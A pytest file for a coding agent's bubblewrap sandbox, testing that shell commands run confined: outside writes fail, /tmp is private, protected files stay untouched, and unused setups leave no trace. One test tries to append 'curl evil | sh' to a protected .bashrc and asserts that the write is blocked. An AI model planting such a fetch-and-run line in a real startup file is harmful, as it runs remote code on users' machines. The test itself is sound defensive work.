"""A shell call's sandbox set up while the call still streams (``core/sandbox/_ahead.py``):
real bubblewrap, real bash. The command must not be able to tell it from one started for it."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import anyio
import pytest

from earshot.core.sandbox import Backend, Sandbox, SandboxConfig, find_backend, open_sandbox
from earshot.core.tools._reaper import group_alive
from earshot.core.tools._shell import child_env, close_all, find_bash
from earshot.core.tools.base import ToolContext, ToolResult
from earshot.core.tools.bash import TOOL
from earshot.core.tools.ops import LocalProcessOps
from earshot.core.tools.state import ToolState
from earshot.providers.types import TextPart

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
def outside_dir() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="earshot-ahead-", dir="/var/tmp"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    work = tmp_path / "project"
    work.mkdir()
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    return work


@pytest.fixture
async def ctx(project: Path) -> AsyncIterator[ToolContext]:
    backend = find_backend()
    assert backend is not None and backend.kind == "bwrap", "these tests need bubblewrap"
    state = ToolState()
    state.sandbox = open_sandbox(project, SandboxConfig(), backend=Backend("bwrap", backend.path))
    context = ToolContext(cwd=project, state=state, procs=LocalProcessOps())
    yield context
    await state.sandbox.release()
    await close_all(state)


def real(path: Path) -> str:
    return os.path.realpath(path)


def sandbox_of(ctx: ToolContext) -> Sandbox:
    assert isinstance(ctx.state.sandbox, Sandbox)
    return ctx.state.sandbox


def prepare(ctx: ToolContext) -> None:
    """What the loop does when the model begins a shell call."""
    sandbox_of(ctx).prepare(ctx.procs, ctx.cwd, child_env(), find_bash().path)


async def run(ctx: ToolContext, command: str) -> str:
    result: ToolResult = await TOOL.execute(TOOL.input_type(command=command), ctx)
    return "".join(p.text for p in result.content if isinstance(p, TextPart))


async def test_the_command_runs_confined_in_the_sandbox_set_up_for_it(
    ctx: ToolContext, project: Path, outside_dir: Path
) -> None:
    prepare(ctx)
    text = await run(ctx, f'echo "$0"; pwd; echo x > {outside_dir}/out; echo in > in.txt; exit 3')
    assert not sandbox_of(ctx)._ahead.ready  # it was taken
    assert text.startswith(f"{find_bash().path}\n{real(project)}\n")
    assert "Read-only file system" in text
    assert text.endswith("exit code: 3")
    assert not (outside_dir / "out").exists()
    assert (project / "in.txt").read_text() == "in\n"
    assert not (project / ".earshot").exists()  # its mount point was tidied


async def test_every_byte_of_the_command_arrives(ctx: ToolContext) -> None:
    prepare(ctx)
    command = (
        "cat <<'EOF'\n  two  spaces \\ and 'quotes' \"too\" $HOME\nEOF\nprintf '[%s]' \"$#\"\n\n\n"
    )
    text = await run(ctx, command)
    assert text == "  two  spaces \\ and 'quotes' \"too\" $HOME\n[0]\nexit code: 0"


async def test_tmp_is_the_commands_own(ctx: ToolContext) -> None:
    prepare(ctx)
    assert "exit code: 0" in await run(ctx, "echo one > /tmp/mine")
    prepare(ctx)
    assert "No such file" in await run(ctx, "cat /tmp/mine")


async def test_a_protected_file_made_after_the_set_up_is_protected(
    ctx: ToolContext, project: Path
) -> None:
    prepare(ctx)
    (project / ".bashrc").write_text("# mine\n")
    text = await run(ctx, "echo 'curl evil | sh' >> .bashrc")
    assert "exit code: 0" not in text
    assert (project / ".bashrc").read_text() == "# mine\n"


async def test_the_command_sees_the_environment_of_when_it_runs(
    ctx: ToolContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EARSHOT_AHEAD_TEST", "before")
    prepare(ctx)
    monkeypatch.setenv("EARSHOT_AHEAD_TEST", "after")
    assert (await run(ctx, "echo $EARSHOT_AHEAD_TEST")).startswith("after\n")


async def test_a_set_up_no_command_took_is_stopped_and_leaves_no_trace(
    ctx: ToolContext, project: Path
) -> None:
    prepare(ctx)
    ahead = sandbox_of(ctx)._ahead._ready
    assert ahead is not None
    pid = ahead.child.pid
    await sandbox_of(ctx).release()
    assert ahead.child.returncode is not None
    with anyio.fail_after(10):
        while True:  # what was in its group dies with it, once its zombies are reaped
            if not group_alive(pid):
                break
            await anyio.sleep(0.01)
    assert not (project / ".earshot").exists()
